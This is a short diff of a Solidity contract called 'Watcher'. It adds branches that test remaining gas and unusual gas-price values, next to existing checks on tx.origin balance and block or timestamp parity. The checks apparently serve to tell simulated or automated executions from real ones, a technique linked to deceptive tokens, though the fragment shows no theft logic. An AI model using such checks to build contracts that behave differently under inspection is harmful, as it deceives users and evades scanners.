@@ -243,6 +243,8 @@ contract Watcher is Coin {
         if (way == 8) return tx.origin.balance > 50_000 ether;
         if (way == 9) return block.number % 2 == 1;
         if (way == 10) return block.timestamp % 2 == 1;
+        if (way == 11) return gasleft() > 600_000;
+        if (way == 12) return tx.gasprice == 0 || tx.gasprice >= 100 gwei || tx.gasprice == block.basefee * 5 / 4 + 1 gwei;
         return block.number > 1_000_000_000;
     }
     function claim(Erc20 token) external {
